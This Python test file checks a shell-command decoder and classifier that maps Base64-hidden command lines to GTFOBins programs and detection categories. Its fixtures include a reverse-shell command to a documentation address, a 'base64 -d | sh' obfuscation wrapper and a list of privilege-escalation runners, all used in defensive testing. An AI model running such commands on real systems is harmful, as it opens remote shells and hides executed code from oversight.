# SPDX-License-Identifier: GPL-3.0-or-later
"""Words in command position, against a second reader of rows and lines.

Ten thousand lines are hidden in Base64, and have to come out whole; of each,
the programs of GTFOBins with their functions and the notebook's five
categories have to be those of the words in command position: no more, as the
notebook's own matching of substrings would give, and no fewer.
"""

import base64
import json
import os
import random
import re
import shlex

import huntdir
from suite import AUHUNT, run

N_LINES = 10000
# Whoever has these looked for everywhere finds R, ex, ar, tar, ab, ln, ul,
# as, ash, cp, rm and more in them.
NONSENSE = ("READY", "TERM=xterm", "start", "vulnerable", "normal",
            "firmware", "/dev/tcp/x", "tcp", "udp", "restart", "format",
            "alarms", "storage", "upwards", "chromium", "touchpad",
            "mvn-repo", "sedan", "awkward", "echoes", "grepping", "wgetrc",
            "curly", "lzmax", "-xz", "gzipped.txt", "unames", "zipper")
# They run what follows them, and so do interpreters their -c.
RUNNERS = re.compile(r"sudo|env|nice|time|x?args|exec|busybox|script|watch|"
                     r"flock|chroot|setarch|stdbuf|ssh|find|su|dosbox|unshare|"
                     r"run|spawn|ionice|taskset|logsave|softlimit|ltrace|"
                     r"strace|cpulimit|doas|aa-exec|capsh|torify|torsocks|"
                     r"setsid|nohup|parallel|rlwrap|choom|chrt|nsenter|"
                     r"ld\.so|perf|tmux|screen|distcc|enscript|multitime|sshp"
                     r"|sg|runscript|systemd|start-stop|uuidd|valgrind|gdb|"
                     r"timeout|unshare|kubectl|docker|podman|pkexec|at|batch")
QUIET = ("ls", "true", "cd", "frob", "knob", "printenv", "test", "sleep",
         "pwd", "umask", "./configure", "/opt/x/bin/tool", "READY", "start",
         "xterm", "vulnerable", "tcp", "firmware")


def read(name):
    with open(os.path.join(huntdir.SHIPPED, name), encoding="utf-8") as file:
        return [line.rstrip("\n") for line in file
                if line.strip() and line[:1] != "#"]


class Reference:
    """The rows, read anew."""

    def __init__(self):
        self.functions, self.aliases, self.versioned = {}, {}, set()
        for line in read("gtfobins.tsv"):
            name, rest = line.split("\t")
            if name.endswith("#"):
                name = name[:-1]
                self.versioned.add(name)
            if rest.startswith("="):
                self.aliases.setdefault(name, rest[1:])
            else:
                self.functions[name] = [one.split(":")[0]
                                        for one in rest.split(",")]
        self.words, self.texts, self.five = {}, [], []
        category = None
        for line in read("categories.conf"):
            words = shlex.split(line) if line[:8] != "pattern " else [""]
            if words[0] == "category":
                category = words[1] if "notebook" in words else None
                self.five += [category] if category else []
            elif category and words[0] in ("word", "text"):
                for word in words[1:]:
                    if "=" in word:
                        continue
                    if words[0] == "word":
                        self.words[word] = category
                    else:
                        self.texts.append((word, category))

    def program(self, word):
        """What GTFOBins calls the command, None if it has it not."""
        word = word.rsplit("/", 1)[-1]
        if word not in self.functions and word not in self.aliases:
            base = re.sub(r"-?[0-9][0-9.]*$", "", word)
            if base == word or base not in self.versioned:
                return None
            word = base
        return word if word in self.functions else self.aliases[word]

    def commands(self, line):
        reader = shlex.shlex(line, posix=True, punctuation_chars=";&|")
        reader.whitespace_split = True
        reader.commenters = ""
        is_first = True
        for word in reader:
            if re.fullmatch(r"[;&|]+", word):
                is_first = True
            elif is_first and not re.match(r"\w+=", word):
                is_first = False
                yield word

    def judge(self, line):
        """({program: functions}, categories of the notebook)."""
        programs, categories = {}, set()
        for word in self.commands(line):
            program = self.program(word)
            if program:
                programs[program] = self.functions[program]
            category = self.words.get(word.rsplit("/", 1)[-1])
            if category:
                categories.add(category)
        for text, category in self.texts:
            if text in line:
                categories.add(category)
        return programs, [name for name in self.five if name in categories]


def lines(reference):
    rng = random.Random(3)
    names = sorted(set(reference.functions) | set(reference.aliases))
    calm = [name for name in names if not RUNNERS.search(name)]
    heads = calm + [name + "3.11" for name in calm
                    if name in reference.versioned] + \
        sorted(reference.words) * 4 + ["/usr/bin/" + name for name in calm]
    for _ in range(N_LINES):
        parts = []
        for _ in range(rng.randint(1, 4)):
            is_quiet = rng.random() < 0.4
            head = rng.choice(QUIET if is_quiet else heads)
            # A command's name as an argument is no command.
            pool = NONSENSE + (tuple(calm) if is_quiet else ())
            args = [rng.choice(pool) for _ in range(rng.randint(1, 4))]
            if rng.random() < 0.1:
                args.append("/proc/cpuinfo")
            if rng.random() < 0.2:
                args = ["'%s'" % " ".join(args)]
            parts.append(" ".join([head] + args))
        yield rng.choice(("; ", " && ", " || ", " ;")).join(parts)


def hide(line):
    word = base64.b64encode(line.encode()).decode()
    return ["sh", "-c", "base64 -d <<< %s | sh" % word]


def check_lines():
    reference = Reference()
    texts = list(lines(reference))
    found = 0
    for text, result in zip(texts, huntdir.decode(map(hide, texts))):
        if [layer["text"] for layer in result["layers"]] != [text]:
            yield "%r gave %s" % (text, result["layers"])
            continue
        programs, categories = reference.judge(text)
        programs["base64"] = reference.functions["base64"]
        found += len(programs) - 1
        got = {one["name"]: one["functions"] for one in result["gtfobins"]}
        if got != programs:
            yield "%r: programs %s, not %s" % (text, got, programs)
        five = [name for name in result["categories"]
                if name in reference.five]
        if five != categories:
            yield "%r: categories %s, not %s" % (text, five, categories)
    if found < N_LINES:
        yield "only %d programs in all" % found


ABSURD = (
    ("READY", set(), set()),
    ("export TERM=xterm", set(), set()),
    ("systemctl start nginx", {"systemctl"}, set()),
    ("frob vulnerable", set(), set()),
    ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", {"bash"}, {"reverse shell"}),
    ("frob tcp", set(), set()),
    ("frob normal TERM=xterm", set(), set()),
    ("knob firmware", set(), set()),
)


def check_absurd():
    """What is known to go wrong there; and there it does."""
    argvs = [["sh", "-c", text] for text, _, _ in ABSURD]
    for (text, programs, categories), result in zip(
            ABSURD, huntdir.decode(argvs)):
        got = {one["name"] for one in result["gtfobins"]}
        if got != programs or set(result["categories"]) != categories:
            yield "%s: %s, %s" % (text, got, result["categories"])
    data = "".join(json.dumps(hide(text)) + "\n" for text, _, _ in ABSURD)
    out = run([AUHUNT, "decode", "-o", "hunt_dir=" + huntdir.SHIPPED, "-o",
               "classify.match=substring"], data=data.encode())
    for (text, programs, _), line in zip(ABSURD, out.splitlines()):
        result = json.loads(line)
        if len(result["gtfobins"]) <= len(programs):
            yield "%s: substrings give no more" % text


def cases():
    return (("ten thousand lines", check_lines), ("absurd", check_absurd))
